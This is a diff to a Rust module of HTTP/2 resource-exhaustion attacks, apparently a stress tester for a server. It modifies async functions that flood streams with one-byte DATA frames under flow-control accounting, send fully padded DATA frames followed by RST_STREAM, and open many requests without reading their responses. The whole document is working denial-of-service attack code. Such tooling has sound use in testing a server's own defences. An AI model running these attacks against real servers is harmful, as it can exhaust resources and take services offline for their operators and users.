@@ -1,6 +1,6 @@
 //! Attacks by frames of HTTP/2 that cost the server more than they cost to send.
 
-use std::{io, time::Duration};
+use std::{collections::BTreeMap, io, time::Duration};
 
 use tokio::time::Instant;
 
@@ -111,21 +111,26 @@ async fn deaf(session: Session, one: impl Fn(u32) -> Vec<u8>) -> io::Result<()> 
     Ok(())
 }
 
-/// A window's worth of frames of one byte: each costs the server 200 times what it holds.
+/// A window's worth of frames of one byte: each costs the server many times what it holds.
 async fn single_bytes(session: Session) -> io::Result<()> {
-    let mut connection = open(&session).await?;
+    let mut connection = open(&session).await?.in_frames_of(1);
     let mut beginning = announced(4 << 20, &[]);
     beginning.resize(WINDOW, 0);
+    let mut sent: BTreeMap<u32, usize> = BTreeMap::new();
     while !session.is_over() {
-        while connection.open_streams() < STREAMS.min(connection.allowed()) {
-            let stream = connection.request(&head(SUBMIT_LIST), 0).await?;
-            for bytes in beginning.chunks(BURST) {
-                let mut frames = Vec::new();
-                bytes.iter().for_each(|byte| add_frame(&mut frames, DATA, 0, stream, &[*byte]));
-                connection.write(&frames).await?;
-            }
+        for _ in connection.open_streams()..STREAMS.min(connection.allowed()) {
+            sent.insert(connection.request(&head(SUBMIT_LIST), 0).await?, 0);
         }
-        connection.read_until(Instant::now() + LOOK).await?;
+        sent.retain(|stream, _| connection.credit(*stream).is_some());
+        let mut any = false;
+        for (stream, at) in &mut sent {
+            let poured = connection.pour(*stream, &beginning[*at..], false).await?.unwrap_or(0);
+            *at += poured;
+            any |= poured > 0;
+        }
+        if !any {
+            connection.read_until(Instant::now() + LOOK).await?;
+        }
     }
     Ok(())
 }
@@ -137,11 +142,13 @@ async fn padding(session: Session) -> io::Result<()> {
     let padded = [&[255][..], &[0; 255]].concat();
     while !session.is_over() {
         let stream = connection.request(&head(SUBMIT_STREAM), 0).await?;
-        for _ in 0..WINDOW / 256 {
+        while connection.credit(stream).is_some_and(|credit| credit >= padded.len()) {
+            connection.spend(stream, padded.len());
             connection.write(&frame(DATA, PADDED, stream, &padded)).await?;
         }
         connection.write(&frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())).await?;
         connection.forget(stream);
+        connection.read_until(Instant::now() + LOOK).await?;
     }
     Ok(())
 }
@@ -316,7 +323,7 @@ async fn bundles_unread(session: Session) -> io::Result<()> {
     let mut connection = Connection::open(session.address, 0, &session.tally).await?;
     while !session.is_over() {
         while connection.open_streams() < STREAMS.min(connection.allowed()) {
-            connection.request(&get("/tile/entries/000.p/40"), END_STREAM).await?;
+            connection.request(&get("/tile/entries/000.p/20"), END_STREAM).await?;
         }
         connection.read_until(Instant::now() + LOOK).await?;
     }
